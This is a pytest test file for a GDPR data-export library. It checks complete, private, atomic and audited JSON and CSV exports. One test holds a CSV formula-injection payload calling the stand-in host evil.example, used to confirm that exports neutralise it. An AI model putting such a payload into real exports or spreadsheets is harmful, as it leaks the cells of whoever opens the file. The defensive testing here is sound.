"""Access and portability (Art. 15/20): complete, streamed, round-trippable, audited."""

from __future__ import annotations

import csv
import errno
import fcntl
import io
import json
import os
import signal
import stat
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from deleatur import InvalidInputError, Memory, NewMemory, Role, Space, SpaceFilter, from_bytes
from deleatur.log.checkpoint import Checkpoint
from deleatur.log.entries import Entry, EventType
from deleatur.log.note import Note, open_note
from deleatur.rights import export as export_module

from .conftest import MASTER, Cli, FakeClock


@pytest.fixture
def populated(memory: Memory) -> Memory:
    # More than a peer's 1,000-entry cap, with history, lineage and a second user.
    memory.remember_many([NewMemory(f"Alice note {i}", subject="Alice", source="crm") for i in range(1500)])
    first = memory.remember("Alice phone +1", subject="Alice", key="alice::phone", space=Space("u2"))
    memory.rectify("alice::phone", "Alice phone +2", reason="typo", actor="dpo", space=Space("u2"))
    memory.remember("derived", subject="Team", derived_from=[first.id], space=Space("u2"))
    memory.forget(key="alice::phone", space=Space("u2"))
    memory.remember_many([NewMemory(f"Bob note {i}", subject="Bob") for i in range(10)])
    memory.restrict("Alice", reason="contested", actor="dpo")
    return memory


def test_json_export_of_a_subject_round_trips(populated: Memory) -> None:
    buffer = io.StringIO()
    counts = populated.export_json(buffer, subject="ALICE")
    data = json.loads(buffer.getvalue())
    assert data["format"] == "deleatur-export/v1"
    # The newest signed checkpoint when the export began: the export's own entries came after.
    note = Note.parse(data["checkpoint"])
    assert open_note(note, populated.announced_keys())
    size = Checkpoint.parse(note.text).size
    assert size == populated.backend.log_size() - 2
    assert counts["records"] == len(data["records"]) == 1502
    stored = {r.id for r in populated.list(subject="alice", include_history=True)}
    stored |= {r.id for r in populated.list(subject="alice", include_history=True, space=Space("u2"))}
    assert {r["id"] for r in data["records"]} == stored
    by_text = {r["text"]: r for r in data["records"]}
    assert by_text["Alice phone +1"]["status"] == "SUPERSEDED"
    assert by_text["Alice phone +2"]["reason"] == "typo"
    assert [e["entry"]["type"] for e in by_text["Alice phone +2"]["log"]] == ["rectify", "retire"]
    assert data["restrictions"][0]["reason"] == "contested"
    assert data["counts"] == counts
    assert "Bob note" not in buffer.getvalue()


def _requests_in_export(memory: Memory, **who: str) -> dict[str, dict[str, Any]]:
    buffer = io.StringIO()
    memory.export_json(buffer, **who)
    return {r["id"]: r for r in json.loads(buffer.getvalue())["erasure_requests"]}


def test_a_user_export_holds_the_requests_that_reached_that_user_and_no_one_else(
    memory: Memory, tmp_path: Path
) -> None:
    """A user export held no erasure request at all, though a key scoped to the user
    lists the erasures of their account and of subjects in their spaces."""
    memory.remember("Ann in u1", subject="Ann", space=Space("u1"))
    memory.remember("Ann in u2", subject="Ann", space=Space("u2"))
    memory.remember("Cy in u1", subject="Cy", space=Space("u1", agent_id="a"))
    memory.remember("Dee in u3", subject="Dee", space=Space("u3"))
    memory.remember("Eve", subject="Eve", space=Space("u1"))
    basis, dpo = "Art. 17(1)(a)", "dpo"
    memory.erase("Ann", scope=SpaceFilter(user_id="u1"), request_id="SUB-U1", basis=basis, requester=dpo)
    memory.erase_all(user_id="u1", agent_id="a", request_id="ACC-U1-A", basis=basis, requester=dpo)
    memory.erase_all(user_id="u3", request_id="ACC-U3", basis=basis, requester=dpo)
    memory.erase("Eve", request_id="SUB-ALL", basis=basis, requester=dpo)  # the whole tenant's: no one user's
    u1 = _requests_in_export(memory, user_id="u1")
    assert sorted(u1) == ["ACC-U1-A", "SUB-U1"]
    # Ann's record in u2 is not u1's to learn of; the request's own status counts it.
    assert memory.erasure_request("SUB-U1").counts["kept_in_other_spaces"] == 1
    assert "kept_in_other_spaces" not in u1["SUB-U1"]["counts"]
    scoped, _ = memory.create_principal("u1-app", Role.MEMBER, scopes=["u1"])
    listed = memory.as_principal(scoped).erasure_requests()
    assert u1 == {r.id: r.to_json(memory._clock()) for r in listed}  # as the user's own key lists them
    assert sorted(_requests_in_export(memory, user_id="u3")) == ["ACC-U3"]  # an erased user's too
    assert _requests_in_export(memory, user_id="u2") == {}
    assert sorted(_requests_in_export(memory, subject="Ann")) == ["SUB-U1"]
    assert sorted(_requests_in_export(memory, subject="Eve")) == ["SUB-ALL"]
    memory.export_csv(tmp_path / "u1", user_id="u1")
    with (tmp_path / "u1" / "erasure_requests.csv").open(encoding="utf-8") as handle:
        assert sorted(row["id"] for row in csv.DictReader(handle)) == ["ACC-U1-A", "SUB-U1"]


def test_user_export_covers_every_space_of_that_user_only(populated: Memory) -> None:
    buffer = io.StringIO()
    populated.export_json(buffer, user_id="u2")
    data = json.loads(buffer.getvalue())
    assert sorted(r["text"] for r in data["records"]) == ["Alice phone +1", "Alice phone +2", "derived"]
    assert {r["user_id"] for r in data["records"]} == {"u2"}


def test_csv_bundle_matches_the_json(populated: Memory, tmp_path: Path) -> None:
    counts = populated.export_csv(tmp_path / "bundle", subject="Alice")
    with (tmp_path / "bundle" / "records.csv").open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == counts["records"] == 1502
    manifest = json.loads((tmp_path / "bundle" / "manifest.json").read_text())
    assert manifest["counts"] == counts
    assert json.loads(rows[0]["metadata"]) == {}
    with pytest.raises(InvalidInputError, match="not empty"):
        populated.export_csv(tmp_path / "bundle", subject="Alice")


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_made_text(memory: Memory, tmp_path: Path) -> None:
    """A record's text =HYPERLINK("http://evil..."&A1, ...) was written as is: a
    spreadsheet opening records.csv runs it, and sends the cells it names away."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    record = memory.remember(evil, subject="+Mallory", key="@handle", source="-crm", metadata={"a": 1})
    memory.remember("\tindented", subject="+Mallory")
    memory.remember("plain, -not first", subject="+Mallory")
    memory.record_decision("=1+1 approved", used=[record.id])
    memory.restrict("+Mallory", reason="@contested", actor="-dpo")
    memory.export_csv(tmp_path / "bundle", subject="+mallory")
    with (tmp_path / "bundle" / "records.csv").open(encoding="utf-8", newline="") as handle:
        rows = {row["id"]: row for row in csv.DictReader(handle)}
    row = rows[record.id]
    assert (row["text"], row["subject_original"], row["key"], row["source"]) == (
        "'" + evil, "'+Mallory", "'@handle", "'-crm"
    )  # fmt: skip
    assert sorted(r["text"] for r in rows.values()) == sorted(["'" + evil, "'\tindented", "plain, -not first"])
    assert json.loads(row["metadata"]) == {"a": 1}
    with (tmp_path / "bundle" / "restrictions.csv").open(encoding="utf-8", newline="") as handle:
        [restriction] = list(csv.DictReader(handle))
    assert (restriction["reason"], restriction["actor"]) == ("'@contested", "'-dpo")
    with (tmp_path / "bundle" / "decisions.csv").open(encoding="utf-8", newline="") as handle:
        [decision] = list(csv.DictReader(handle))
    assert decision["summary"] == "'=1+1 approved"
    buffer = io.StringIO()
    memory.export_json(buffer, subject="+mallory")
    data = json.loads(buffer.getvalue())  # the JSON export stays exact
    assert sorted(r["text"] for r in data["records"]) == ["\tindented", evil, "plain, -not first"]
    assert data["restrictions"][0]["reason"] == "@contested"
    assert data["decisions"][0]["summary"] == "=1+1 approved"


def test_csv_tables_have_their_header_when_empty_and_rows_when_not(memory: Memory, tmp_path: Path) -> None:
    memory.remember("Bob likes tea", subject="Bob")
    memory.export_csv(tmp_path / "bob", subject="Bob")
    for table in ("erasure_requests.csv", "restrictions.csv", "decisions.csv"):
        with (tmp_path / "bob" / table).open(encoding="utf-8") as handle:
            reader = csv.DictReader(handle)
            assert reader.fieldnames and list(reader) == []
    memory.restrict("Bob", reason="contested", actor="dpo")
    memory.unrestrict("Bob", actor="dpo")
    memory.erase("Bob", request_id="DSAR-B", basis="Art. 17(1)(a)", requester="dpo")
    memory.export_csv(tmp_path / "erased", subject="Bob")
    with (tmp_path / "erased" / "erasure_requests.csv").open(encoding="utf-8") as handle:
        [row] = list(csv.DictReader(handle))
    assert (row["id"], row["status"]) == ("DSAR-B", "complete")


def test_export_files_are_readable_by_their_owner_only(populated: Memory, cli: Cli, tmp_path: Path) -> None:
    old = os.umask(0o022)
    try:
        populated.export_csv(tmp_path / "bundle", subject="Alice")
        modes = {f.name: stat.S_IMODE(f.stat().st_mode) for f in (tmp_path / "bundle").iterdir()}
        assert len(modes) == 7 and set(modes.values()) == {0o600}
        assert stat.S_IMODE((tmp_path / "bundle").stat().st_mode) == 0o700
        assert cli("init")[0] == 0
        cli("remember", "Alice likes tea", "-s", "Alice")
        out = tmp_path / "alice.json"
        assert cli("export", "--subject", "Alice", "--out", str(out))[0] == 0
        assert stat.S_IMODE(out.stat().st_mode) == 0o600
    finally:
        os.umask(old)


def test_a_failed_export_writes_no_file_and_keeps_an_earlier_one(cli: Cli, tmp_path: Path) -> None:
    assert cli("init")[0] == 0
    out = tmp_path / "alice.json"
    code, _, err = cli("export", "--subject", "Alice", "--user", "u1", "--out", str(out))
    assert code == 2 and "exactly one" in err
    assert not out.exists()
    out.write_text("an earlier export")
    assert cli("export", "--subject", "Alice", "--user", "u1", "--out", str(out))[0] == 2
    assert out.read_text() == "an earlier export"
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_an_output_the_disk_cannot_hold_is_named_and_leaves_nothing(cli: Cli, tmp_path: Path) -> None:
    """A full disk met while writing an --out file was an internal error (an export) or
    left an empty file behind (a certificate, checkpoint or receipt): now it is told
    against the file, exit 2, and an earlier file of that name is kept whole."""
    out = tmp_path / "cp.txt"
    out.write_text("an earlier checkpoint")

    def full(*_: object, **__: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    def write() -> None:
        with export_module.private_output(out) as handle:
            handle.write("a checkpoint")

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(export_module, "_private", lambda path: _FailingFile(path, full))
        with pytest.raises(InvalidInputError, match=f"cannot write {out}: No space left on device"):
            write()
    assert out.read_text() == "an earlier checkpoint"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["cp.txt"]
    if Path("/dev/full").exists():  # Linux: a device no write fits in, as a full disk
        assert cli("init")[0] == 0
        for args in (("export", "--subject", "Alice"), ("log", "checkpoint")):
            code, _, err = cli(*args, "--out", "/dev/full")
            assert (code, err) == (2, "error: cannot write /dev/full: No space left on device\n"), args


class _FailingFile(io.StringIO):
    """A new file whose writing fails as ``fail`` says, as a full disk's does once its
    buffer is flushed; made, as ``_private`` makes one, so that it is left to remove."""

    def __init__(self, path: Path, fail: Callable[..., None]) -> None:
        super().__init__()
        path.touch()
        self.fail = fail

    def close(self) -> None:
        self.fail()


def test_a_csv_export_that_fails_halfway_leaves_no_bundle(
    populated: Memory, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whole or absent, as the JSON export: a half-written bundle would look like a
    complete answer to an Art. 15 request."""
    from deleatur.rights import export as export_module

    real = export_module._write_table

    def failing(path: Path, rows: list[dict[str, object]]) -> None:
        if path.name == "decisions.csv":
            raise OSError(28, "No space left on device")
        real(path, rows)

    monkeypatch.setattr(export_module, "_write_table", failing)
    entries = populated.backend.log_size()
    out = tmp_path / "exports"
    out.mkdir()
    # Told against the bundle, as a failure to write it (it was the OSError itself).
    with pytest.raises(InvalidInputError, match=r"cannot write .*bundle: No space left"):
        populated.export_csv(out / "bundle", subject="Alice")
    (out / "empty").mkdir(mode=0o755)
    with pytest.raises(InvalidInputError, match=r"cannot write .*empty: No space left"):
        populated.export_csv(out / "empty", subject="Alice")
    assert sorted(p.name for p in out.iterdir()) == ["empty"]  # no bundle, no partial directory
    assert list((out / "empty").iterdir()) == []
    # The failed exports are audited as failed calls, not as exports.
    logged = [Entry.decode(raw) for _, raw in populated.backend.log_entries(entries)]
    assert [e.type for e in logged] == [EventType.CALL, EventType.CALL]
    assert {e.fields["outcome"] for e in logged} == {"failed"}
    monkeypatch.undo()
    populated.export_csv(out / "empty", subject="Alice")  # an empty directory is taken, made private
    assert stat.S_IMODE((out / "empty").stat().st_mode) == 0o700
    assert len(list((out / "empty").iterdir())) == 7


def test_a_csv_export_goes_into_the_current_directory_or_through_a_symlink(
    populated: Memory, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    here = tmp_path / "here"
    here.mkdir()
    monkeypatch.chdir(here)
    populated.export_csv(Path("."), subject="Alice")
    assert Path.cwd() == here and len(list(here.iterdir())) == 7
    real = tmp_path / "real"
    real.mkdir()
    (tmp_path / "link").symlink_to(real)
    populated.export_csv(tmp_path / "link", subject="Alice")
    assert (tmp_path / "link").is_symlink() and len(list(real.iterdir())) == 7
    assert stat.S_IMODE(real.stat().st_mode) == 0o700
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".partial")]


def test_a_json_export_is_refused_a_symbolic_link_or_a_pipe_and_written_into_a_device(cli: Cli, tmp_path: Path) -> None:
    """An export is personal data in plaintext: a link or a pipe planted where the caller
    said to write it would hand it to whoever planted it (a link was replaced by the new
    file, and a pipe by a file no reader would open; a device too, /dev/full once). So a
    link, a pipe or a socket is refused, before anything is written, and left as it was;
    a device is written into."""
    assert cli("init")[0] == 0
    assert cli("remember", "Alice likes tea", "--subject", "Alice")[0] == 0
    real, link, pipe = tmp_path / "real.json", tmp_path / "link.json", tmp_path / "pipe"
    real.write_text("an earlier export")
    link.symlink_to(real)
    os.mkfifo(pipe)
    for path, message in ((link, "is a symbolic link"), (pipe, "is not a regular file")):
        code, out, err = cli("export", "--subject", "Alice", "--out", str(path))
        assert (code, out) == (2, "") and message in err
    assert link.is_symlink() and real.read_text() == "an earlier export"
    assert stat.S_ISFIFO(pipe.lstat().st_mode)
    assert cli("export", "--subject", "Alice", "--out", os.devnull)[0] == 0
    assert stat.S_ISCHR(os.lstat(os.devnull).st_mode)
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".partial")]


def test_every_export_is_logged_without_names(populated: Memory) -> None:
    populated.export_json(io.StringIO(), subject="Alice")
    *_, last, call = [Entry.decode(raw) for _, raw in populated.backend.log_entries()]
    assert last.type is EventType.EXPORT
    assert last.fields == {"tenant": "default", "kind": "subject", "records": 1502}
    # The call's audit entry names the subject only as a pseudonym, and sealed.
    assert call.type is EventType.CALL
    assert call.fields["action"] == "export"
    assert call.fields["subject"].startswith("psn:")
    assert b"alice" not in call.encode().lower()
    assert populated.verify_log().ok


def test_export_needs_exactly_one_scope(memory: Memory) -> None:
    with pytest.raises(InvalidInputError, match="exactly one"):
        memory.export_json(io.StringIO())
    with pytest.raises(InvalidInputError, match="exactly one"):
        memory.export_json(io.StringIO(), subject="a", user_id="b")


def test_export_of_an_erased_subject_shows_only_the_request(memory: Memory) -> None:
    memory.remember("x", subject="Alice")
    memory.erase("Alice", request_id="DSAR-1", basis="Art. 17(1)(a)", requester="dpo")
    buffer = io.StringIO()
    memory.export_json(buffer, subject="Alice")
    data = json.loads(buffer.getvalue())
    assert data["records"] == []
    assert [r["id"] for r in data["erasure_requests"]] == ["DSAR-1"]


def test_export_cli(cli: Cli, tmp_path: Path) -> None:
    assert cli("init")[0] == 0
    cli("remember", "Alice likes tea", "-s", "Alice")
    code, out, _ = cli("export", "--subject", "Alice")
    assert code == 0
    assert json.loads(out)["counts"]["records"] == 1
    code, out, _ = cli("export", "--subject", "Alice", "--format", "csv", "--out", str(tmp_path / "b"))
    assert code == 0
    assert (tmp_path / "b" / "records.csv").exists()
    assert cli("export", "--subject", "Alice", "--format", "xml")[0] == 2
    assert cli("export")[0] == 2


def test_export_holds_the_decisions_and_calls_about_the_subject_only(memory: Memory, tmp_path: Path) -> None:
    alice = memory.remember("Alice may get refunds", subject="Alice")
    bob = memory.remember("Bob owes 30 euros", subject="Bob")
    decision = memory.record_decision("refund for Alice, offset against Bob", [alice.id, bob.id])
    memory.restrict("Alice", reason="contested", actor="dpo")
    memory.unrestrict("Alice", actor="dpo")
    buffer = io.StringIO()
    counts = memory.export_json(buffer, subject="Alice")
    data = json.loads(buffer.getvalue())
    [shown] = data["decisions"]
    assert shown["id"] == decision.id
    assert [b["value"] for b in shown["beliefs"]] == ["Alice may get refunds"]  # not Bob's value
    assert "owes" not in buffer.getvalue()
    actions = [a["entry"].get("action", a["entry"]["type"]) for a in data["audit"]]
    assert actions == ["restrict", "restrict", "unrestrict", "unrestrict"]  # the events and the calls
    assert counts == data["counts"] == {"records": 1, "log_entries": 1, "decisions": 1, "audit_entries": 4}
    csv_counts = memory.export_csv(tmp_path / "bundle", subject="Alice")
    with (tmp_path / "bundle" / "audit.csv").open(encoding="utf-8") as handle:
        assert len(list(csv.DictReader(handle))) == csv_counts["audit_entries"] >= 5  # now the first export too
    with (tmp_path / "bundle" / "decisions.csv").open(encoding="utf-8") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["id"] == decision.id


def _export(memory: Memory, **who: str) -> dict[str, Any]:
    buffer = io.StringIO()
    memory.export_json(buffer, **who)
    data: dict[str, Any] = json.loads(buffer.getvalue())
    return data


def test_a_subjects_export_shows_its_own_redactions_and_no_one_elses(memory: Memory) -> None:
    """A decision's redactions name the request that took records from it: Bob's erasure
    is not Alice's to see (its request id and Bob's record id were in her export), her
    own correction of a value the decision used is."""
    alice = memory.remember("Alice may get refunds", subject="Alice", key="alice::refunds")
    kept = memory.remember("Alice pays by card", subject="Alice")
    bob = memory.remember("Bob owes 30 euros", subject="Bob Stone")
    decision = memory.record_decision("refund for Alice, offset against Bob", [alice.id, kept.id, bob.id])
    memory.erase("Bob Stone", request_id="DSAR-BOB-STONE", basis="Art. 17(1)(a)", requester="dpo")
    assert [r["request"] for r in memory.explain_decision(decision.id).body["redactions"]] == ["DSAR-BOB-STONE"]
    data = _export(memory, subject="Alice")
    [shown] = data["decisions"]
    assert shown["redactions"] == []
    exported = json.dumps(data)
    assert "DSAR-BOB-STONE" not in exported and bob.id not in exported
    fixed = memory.rectify(
        "alice::refunds", "Alice may not get refunds", reason="wrong", actor="dpo", erase_previous=True
    )
    [redaction] = [r for r in memory.explain_decision(decision.id).body["redactions"] if r["by"] == "rectification"]
    assert redaction["request"] == fixed.id
    assert [r["by"] for r in _export(memory, subject="Alice")["decisions"][0]["redactions"]] == ["rectification"]
    assert _export(memory, subject="Bob Stone")["decisions"] == []


def test_a_purges_redaction_is_shown_without_anyones_record_ids(memory: Memory, clock: FakeClock) -> None:
    """A purge (or an account erasure) has no one subject: its redaction of a decision
    this subject's beliefs are in is shown (it was left out), but without the ids of the
    records it took, which may be another person's (it showed Bob's to Alice); another
    person's correction is not shown at all."""
    expiring = memory.remember("Alice's trial ends soon", subject="Alice", expires_at=clock() + 1_000_000)
    kept = memory.remember("Alice pays by card", subject="Alice")
    bobs = memory.remember("Bob's trial ends soon", subject="Bob", key="bob::trial", expires_at=clock() + 1_000_000)
    bob_kept = memory.remember("Bob pays cash", subject="Bob", key="bob::pays")
    decision = memory.record_decision("plans for Alice and Bob", [expiring.id, kept.id, bobs.id, bob_kept.id])
    clock.advance(2)
    purged = memory.purge(request_id="RET-1").request
    assert purged is not None and set(purged.record_ids) == {expiring.id, bobs.id}
    fixed = memory.rectify("bob::pays", "Bob pays by card", reason="wrong", actor="dpo", erase_previous=True)
    data = _export(memory, subject="Alice")
    [shown] = data["decisions"]
    assert shown["id"] == decision.id
    assert [(r["by"], r["request"], r["records"]) for r in shown["redactions"]] == [("erasure", "RET-1", [])]
    exported = json.dumps(data)
    assert all(i not in exported for i in (bobs.id, bob_kept.id, fixed.id))


def test_a_scoped_keys_user_export_shows_the_audit_as_audit_show_does(memory: Memory) -> None:
    """A key scoped to users reads the audit entries of a user export as `audit show`
    shows them: no call that names a user beyond its scopes, the subject by the key's own
    pseudonym, and no sealed subject (before, the export gave it the raw entries)."""
    scoped_principal, _ = memory.create_principal("support desk", Role.MEMBER, scopes=["support"])
    scoped = memory.as_principal(scoped_principal)
    memory.create_principal("two users", Role.VIEWER, scopes=["support", "default"])  # names both users
    scoped.remember("Alice's ticket", subject="Alice Martin", space=Space("support"))
    scoped.erase(
        "Alice Martin", request_id="DRY-1", basis="b", requester="r", scope=SpaceFilter("support"), dry_run=True
    )
    shown = [a.to_json() for a in scoped.audit_entries()]
    entries = [item["entry"] for item in _export(scoped, user_id="support")["audit"]]
    assert entries and all("sealed" not in e for e in entries)
    assert all(e["users"] and set(e["users"]) <= {u for s in shown for u in s.get("users", [])} for e in entries)
    assert [e.get("action") for e in entries].count("principal.create") == 1  # its own key's, not the other
    subjects = {e["subject"] for e in entries if "subject" in e}
    assert subjects and all(s.startswith("spsn:") for s in subjects)
    assert subjects <= {s["subject"] for s in shown if "subject" in s}
    # The unscoped export keeps the entries as logged (a receipt proves each one).
    raw = [item["entry"] for item in _export(memory, user_id="support")["audit"]]
    assert [e.get("action") for e in raw].count("principal.create") == 2


def test_the_exports_checkpoint_covers_the_entries_it_lists(store_path: Path) -> None:
    """Writes within a handle's checkpoint interval are not signed yet: the export's
    checkpoint was the last one stored, which none of them was under."""
    Memory.init(store_path, from_bytes(MASTER))[0].close()
    memory = Memory.open(store_path, from_bytes(MASTER), checkpoint_interval_us=3_600_000_000)
    for i in range(5):
        memory.remember(f"note {i}", subject="Cora")
    assert memory.unsigned
    data = _export(memory, subject="Cora")
    size = Checkpoint.parse(Note.parse(data["checkpoint"]).text).size
    listed = [item["index"] for record in data["records"] for item in record["log"]]
    assert listed and max(listed) < size
    memory.close()


def test_an_export_exports_nothing_erased_while_it_runs(memory: Memory, store_path: Path) -> None:
    """An export reads the store a page at a time, holding no read while it writes: an
    erasure through another handle meanwhile truncates the -wal at once, and none of the
    records it removed (the subject's, and one derived from them about another subject,
    whose key stays) is exported after it, in the page being written or the next."""
    u1 = Space("u1")
    memory.remember_many([NewMemory(f"x{i}", subject="Alice" if i % 2 else "Bob") for i in range(1500)], space=u1)
    source = next(memory.list(space=u1, subject="Alice"))
    derived = memory.remember("Team: Alice moved", subject="Team", derived_from=[source.id], space=u1)
    memory.remember("Team lunch", subject="Team", space=u1)
    erased: list[dict[str, int]] = []

    class ErasingMidway(io.StringIO):
        def write(self, text: str, /) -> int:
            if self.tell() > 20_000 and not erased:
                with Memory.open(store_path, from_bytes(MASTER)) as other:
                    done = other.erase("Alice", request_id="R1", basis="Art. 17(1)(a)", requester="dpo")
                erased.append(done.request.counts)  # type: ignore[union-attr]
                self.erased_at = self.tell()
            return super().write(text)

    out = ErasingMidway()
    counts = memory.export_json(out, user_id="u1")
    assert erased and "wal_not_truncated" not in erased[0]
    after = out.getvalue()[out.erased_at :]
    assert '"subject": "alice"' not in after and derived.id not in after
    assert '"text": "x1498"' in after and '"text": "Team lunch"' in after  # the rest is exported
    document = json.loads(out.getvalue())
    assert counts["records"] == len(document["records"]) == document["counts"]["records"] < 1502


def _partial(directory: Path, name: str, *, age_s: float, as_directory: bool = False) -> Path:
    path = directory / name
    if as_directory:
        path.mkdir()
        (path / "records.csv").write_text("Ann's data")
    else:
        path.write_text("Ann's data")
    then = time.time() - age_s
    os.utime(path, (then, then))
    return path


def test_an_export_removes_the_partial_outputs_killed_exports_left(memory: Memory, tmp_path: Path) -> None:
    """A process killed while it wrote an export (SIGKILL: no cleanup runs) left its
    partial file, a person's data in clear, beside the output for good: the next export
    into that directory removes it, and leaves one a live export holds, a recent one
    (made an instant before its writer locks it), and any file not named as one."""
    out = tmp_path / "out"
    out.mkdir()
    abandoned = [
        _partial(out, ".deleatur-0123456789abcdef.partial", age_s=60),
        _partial(out, ".deleatur-89abcdef01234567.partial", age_s=60, as_directory=True),  # a bundle's
    ]
    held = _partial(out, ".deleatur-fedcba9876543210.partial", age_s=60)
    kept = [
        held,
        _partial(out, ".deleatur-aaaaaaaaaaaaaaaa.partial", age_s=0),
        # Another program's, named alike: a sweep that took them was a review's finding.
        _partial(out, ".holiday-video.mkv.0badcafe.partial", age_s=600),
        _partial(out, ".thesis.deadbeef.partial", age_s=600, as_directory=True),
        _partial(out, "notes.partial", age_s=60),
    ]
    with held.open() as holder:
        fcntl.flock(holder, fcntl.LOCK_EX)  # as a live export holds its own
        with export_module.private_output(out / "ann.json") as handle:
            handle.write("{}")
        assert not any(path.exists() for path in abandoned)
        assert all(path.exists() for path in kept)
    memory.export_csv(out / "bundle", user_id="u1")  # a bundle sweeps its directory too
    assert not held.exists()
    assert sorted(p.name for p in out.iterdir()) == sorted(["ann.json", "bundle", *(p.name for p in kept[1:])])


def test_an_export_stopped_by_sigterm_leaves_no_partial_file(tmp_path: Path) -> None:
    """Python's default for SIGTERM (a service stopping, a timeout) ends the process with
    no cleanup: the partial file stayed, holding the export so far in clear."""
    store, out = tmp_path / "mem.db", tmp_path / "out"
    out.mkdir()
    with Memory.open(store, from_bytes(MASTER), create=True) as memory:
        memory.remember("Ann's data", subject="Ann")
    # The export stops after its first record, as a slow one would be caught midway.
    script = (
        "import sys, threading\n"
        "from deleatur.rights import export\n"
        "counted = export._Export._count\n"
        "def paused(self, *args):\n"
        "    counted(self, *args)\n"
        "    print('writing', file=sys.stderr, flush=True)\n"
        "    threading.Event().wait()\n"
        "export._Export._count = paused\n"
        "from deleatur.cli.app import main\n"
        "sys.argv = ['deleatur', *sys.argv[1:]]\n"
        "main()\n"
    )
    env = {**os.environ, "DELEATUR_STORE": str(store), "DELEATUR_MASTER_KEY": MASTER.hex()}
    command = [sys.executable, "-c", script, "export", "--subject", "Ann", "--out", str(out / "ann.json")]
    with subprocess.Popen(command, env=env, stderr=subprocess.PIPE, text=True) as export:
        assert export.stderr is not None
        assert export.stderr.readline() == "writing\n"
        assert [p.name.endswith(".partial") for p in out.iterdir()] == [True]
        export.send_signal(signal.SIGTERM)
        assert export.wait(timeout=30) == 128 + signal.SIGTERM
    assert list(out.iterdir()) == []
